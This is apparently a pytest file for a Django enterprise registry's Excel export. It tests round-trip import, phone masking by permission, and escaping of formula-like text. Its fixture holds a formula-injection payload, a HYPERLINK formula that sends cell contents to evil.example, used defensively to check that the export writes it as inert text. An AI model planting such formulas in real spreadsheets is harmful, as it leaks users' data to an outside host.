"""The registry export: in the import templates' format (so it imports back to the same data), safe
against formula injection, with phones masked for those who cannot import."""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kechuang.enterprises.exporting import enterprises_xlsx
from kechuang.enterprises.importing import SPECS
from kechuang.enterprises.models import Enterprise, EnterpriseYear, IPAsset, Qualification
from tests.enterprises.test_import import SHEETS, code, upload

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'


@pytest.fixture
def registry(personas):
    """The two persona enterprises filled in completely, a third with formula-like text, and
    years, IP and qualifications of every shape."""
    Enterprise.objects.filter(pk=personas.ent_a.pk).update(
        main_business="工业软件",
        address="上海市松江区文诚路1号",
        legal_representative="王五",
        status="active",
        is_listed=True,
    )
    odd = Enterprise.objects.create(
        uscc=code(3),
        name=EVIL_NAME,
        short_name="-负号开头",
        contact_phone="+86 21 5555 0000",
        status="moved_out",
        address="@某处",
        legal_representative="'+引号开头",
    )
    full = {
        "employees": Decimal("120.5"),
        "tech_staff": Decimal("45"),
        "rd_staff": Decimal("30"),
        "sales_revenue": Decimal("12345678.91"),
        "main_business_revenue": Decimal("12000000.00"),
        "total_income": Decimal("12400000.50"),
        "hitech_revenue": Decimal("9000000"),
        "rd_expense_hnte": Decimal("1500000.07"),
        "rd_expense_hnte_domestic": Decimal("1400000"),
        "rd_expense_deduction": Decimal("1300000"),
        "rd_expense": Decimal("1450000.5"),
        "cost_expense_total": Decimal("10000000"),
        "total_assets": Decimal("50000000"),
        "net_assets": Decimal("-250000.55"),
        "total_profit": Decimal("-100000"),
        "net_profit": Decimal("-120000.01"),
        "tax_paid": Decimal("300000"),
        "export_revenue": Decimal("0"),
        "equity_financing": Decimal("20000000"),
        "valuation": Decimal("999999999999.99"),
    }
    EnterpriseYear.objects.create(enterprise=personas.ent_a, year=2022, **full)
    EnterpriseYear.objects.create(
        enterprise=personas.ent_a, year=2023, employees=Decimal("130"), sales_revenue=Decimal("0.01")
    )
    EnterpriseYear.objects.create(enterprise=personas.ent_b, year=2023)
    IPAsset.objects.create(
        enterprise=personas.ent_a,
        ip_type="invention",
        number="ZL202010000001.1",
        title="一种测试方法",
        application_date=date(2020, 1, 10),
        grant_date=date(2022, 3, 1),
        acquisition="transfer",
        status="valid",
        hnte_used_year=2023,
    )
    IPAsset.objects.create(
        enterprise=personas.ent_b,
        ip_type="software",
        number="2021SR0000001",
        title="=SUM(1)",
        status="pending",
    )
    IPAsset.objects.create(
        enterprise=odd,
        ip_type="trademark",
        number="第123号",
        title="商标",
        acquisition="gift",
        status="lapsed",
    )
    Qualification.objects.create(
        enterprise=personas.ent_a,
        kind="hnte",
        level="national",
        certificate_no="GR2023",
        issuer="市科委",
        issue_date=date(2023, 11, 15),
    )
    Qualification.objects.create(enterprise=personas.ent_b, kind="tech_sme", issue_date=date(2024, 4, 1))
    Qualification.objects.create(
        enterprise=odd,
        kind="little_giant",
        level="national",
        issue_date=date(2022, 7, 1),
        expiry_date=date(2025, 6, 30),
    )
    return personas


def registry_by_key() -> dict:
    """Every field of every row, by natural key, with enterprises named by code: what a round
    trip through a spreadsheet must keep (ids and timestamps are the database's own)."""
    code_of = dict(Enterprise.objects.values_list("pk", "uscc"))

    def rows(model, key):
        found = {}
        for row in model.objects.values():
            for name in ("id", "created_at", "updated_at"):
                row.pop(name, None)
            if "enterprise_id" in row:
                row["enterprise_id"] = code_of[row["enterprise_id"]]
            found[tuple(row[k] for k in key)] = row
        return found

    return {
        "enterprises": rows(Enterprise, ("uscc",)),
        "years": rows(EnterpriseYear, ("enterprise_id", "year")),
        "ip": rows(IPAsset, ("ip_type", "number")),
        "qualifications": rows(Qualification, ("enterprise_id", "kind", "issue_date")),
    }


def import_everything(client, content: bytes) -> list:
    jobs = []
    for kind in SHEETS:
        response = upload(client, kind, content, "企业库导出.xlsx")
        assert response.status_code == 302
        jobs.append(client.get(response["Location"]).context["job"])
    return jobs


def test_it_round_trips_every_field_of_every_row(client, registry):
    client.force_login(registry.carol)
    before = registry_by_key()
    assert len(before["enterprises"]) == 3 and len(before["years"]) == 3
    assert len(before["ip"]) == 3 and len(before["qualifications"]) == 3
    content = enterprises_xlsx(Enterprise.objects.all(), user=registry.carol)
    Enterprise.objects.all().delete()  # cascades to years, IP, qualifications and memberships
    assert EnterpriseYear.objects.count() == IPAsset.objects.count() == Qualification.objects.count() == 0

    jobs = import_everything(client, content)

    assert [(j.status, j.created_count, j.updated_count, j.error_rows) for j in jobs] == [
        ("done", 3, 0, 0)
    ] * 4
    assert registry_by_key() == before


def test_it_changes_nothing_when_an_export_is_imported_again(client, registry):
    client.force_login(registry.carol)
    content = enterprises_xlsx(Enterprise.objects.all(), user=registry.carol)
    before = {
        m: (list(m.objects.order_by("pk").values()), m.history.count())
        for m in (Enterprise, EnterpriseYear, IPAsset, Qualification)
    }

    jobs = import_everything(client, content)

    assert [(j.status, j.created_count, j.updated_count) for j in jobs] == [("done", 0, 0)] * 4
    assert {m: (list(m.objects.order_by("pk").values()), m.history.count()) for m in before} == before


def test_it_writes_each_sheet_in_its_templates_format(registry, client):
    client.force_login(registry.carol)
    workbook = load_workbook(io.BytesIO(enterprises_xlsx(Enterprise.objects.all(), user=registry.carol)))

    assert workbook.sheetnames == ["企业", "年度数据", "知识产权", "资质", "说明"]
    for kind, sheet in SHEETS.items():
        template = load_workbook(
            io.BytesIO(client.get(reverse("enterprises:import-template", args=[kind])).content)
        )
        assert [c.value for c in workbook[sheet][1]] == [c.value for c in template[sheet][1]]


def test_it_writes_labels_dates_and_money_in_wan(registry):
    workbook = load_workbook(
        io.BytesIO(enterprises_xlsx(Enterprise.objects.filter(pk=registry.ent_a.pk), user=registry.carol))
    )

    enterprise = dict(
        zip([c.value for c in workbook["企业"][1]], [c.value for c in workbook["企业"][2]], strict=True)
    )
    assert enterprise["所属行业"] == "I 信息传输、软件和信息技术服务业"
    assert enterprise["高新技术领域"] == "电子信息"
    assert enterprise["所在园区"] == "临港松江科技园"
    assert enterprise["成立日期"].date() == date(2018, 3, 1)
    assert (enterprise["状态"], enterprise["已上市"]) == ("存续", "是")
    years = list(workbook["年度数据"].iter_rows(min_row=2, values_only=True))
    headers = [c.value for c in workbook["年度数据"][1]]
    y2022 = dict(zip(headers, years[0], strict=True))
    assert (y2022["年度"], y2022["企业名称"]) == (2022, "上海甲科技有限公司")
    assert y2022["销售收入（万元）"] == 1234.567891
    assert y2022["职工总数（人）"] == 120.5
    assert y2022["净资产（万元）"] == -25.000055
    assert dict(zip(headers, years[1], strict=True))["总收入（万元）"] is None


def test_it_exports_only_the_given_enterprises_and_their_rows(registry):
    workbook = load_workbook(
        io.BytesIO(enterprises_xlsx(Enterprise.objects.filter(pk=registry.ent_b.pk), user=registry.carol))
    )

    for sheet in ("企业", "年度数据", "知识产权", "资质"):
        codes = {row[0] for row in workbook[sheet].iter_rows(min_row=2, values_only=True)}
        assert codes == {registry.ent_b.uscc}, sheet


def test_it_escapes_formula_like_text_so_no_cell_is_a_formula(registry):
    workbook = load_workbook(io.BytesIO(enterprises_xlsx(Enterprise.objects.all(), user=registry.carol)))

    row = next(r for r in workbook["企业"].iter_rows(min_row=2) if r[0].value == code(3))
    name, short_name, phone, address = row[1], row[2], row[10], row[8]
    assert (name.data_type, name.value) == ("s", "'" + EVIL_NAME)
    assert (short_name.data_type, short_name.value) == ("s", "'-负号开头")
    assert (phone.data_type, phone.value) == ("s", "'+86 21 5555 0000")
    assert (address.data_type, address.value) == ("s", "'@某处")
    title = next(r for r in workbook["知识产权"].iter_rows(min_row=2) if r[3].value == "2021SR0000001")[4]
    assert (title.data_type, title.value) == ("s", "'=SUM(1)")
    for sheet in workbook:
        assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)


@pytest.mark.parametrize(
    "persona,phone",
    [("carol", "13812345678"), ("bob", "138****5678"), ("leo", "138****5678"), (None, "138****5678")],
)
def test_it_masks_the_phone_unless_the_user_may_import(registry, persona, phone):
    user = getattr(registry, persona) if persona else None
    workbook = load_workbook(
        io.BytesIO(enterprises_xlsx(Enterprise.objects.filter(pk=registry.ent_a.pk), user=user))
    )

    assert workbook["企业"]["K1"].value == "联系电话"
    assert workbook["企业"]["K2"].value == phone


def test_it_refuses_a_masked_export_that_would_overwrite_real_phones(client, registry):
    client.force_login(registry.carol)
    masked = enterprises_xlsx(Enterprise.objects.filter(pk=registry.ent_a.pk), user=registry.bob)

    response = upload(client, "enterprises", masked, "园区导出.xlsx")

    job = client.get(response["Location"]).context["job"]
    assert job.status == "rejected"
    assert [(e["row"], e["column"], e["value"]) for e in job.errors] == [(2, "联系电话", "138****5678")]
    assert Enterprise.objects.get(pk=registry.ent_a.pk).contact_phone == "13812345678"


def test_it_describes_every_sheet_in_the_notes(registry):
    workbook = load_workbook(io.BytesIO(enterprises_xlsx(Enterprise.objects.none(), user=registry.carol)))

    described = {(row[0], row[1]) for row in workbook["说明"].iter_rows(min_row=2, values_only=True)}
    for kind, spec in SPECS.items():
        assert {(spec.sheet, c.header) for c in spec.columns} <= described, kind
    assert workbook["企业"].max_row == 1


def test_it_is_what_the_registry_export_page_serves(client, registry):
    client.force_login(registry.bob)  # a park operator: sees park A's enterprise, phones masked

    response = client.get(reverse("enterprises:export"))

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["企业", "年度数据", "知识产权", "资质", "说明"]
    rows = list(workbook["企业"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[10]) for r in rows] == [(registry.ent_a.uscc, "138****5678")]


def test_it_styles_and_freezes_the_header_row_of_every_sheet(registry):
    workbook = load_workbook(io.BytesIO(enterprises_xlsx(Enterprise.objects.all(), user=registry.carol)))

    for sheet in workbook:
        header = sheet["A1"]
        assert sheet.freeze_panes == "A2", sheet.title
        assert (header.font.b, header.font.color.rgb, header.fill.fill_type, header.fill.fgColor.rgb) == (
            True,
            "FFFFFFFF",
            "solid",
            "FF1F4E79",
        ), sheet.title
        assert sheet.column_dimensions["A"].width >= 12
        assert sheet["A2"].font.b is not True


def test_it_writes_text_as_text_never_as_a_link_or_a_number(registry):
    Enterprise.objects.filter(pk=registry.ent_b.pk).update(
        address="http://evil.example/", legal_representative="00123", main_business="1E5"
    )
    workbook = load_workbook(
        io.BytesIO(enterprises_xlsx(Enterprise.objects.filter(pk=registry.ent_b.pk), user=registry.carol))
    )

    sheet = workbook["企业"]
    assert [(c.data_type, c.value, c.hyperlink) for c in (sheet["I2"], sheet["J2"], sheet["H2"])] == [
        ("s", "http://evil.example/", None),
        ("s", "00123", None),
        ("s", "1E5", None),
    ]
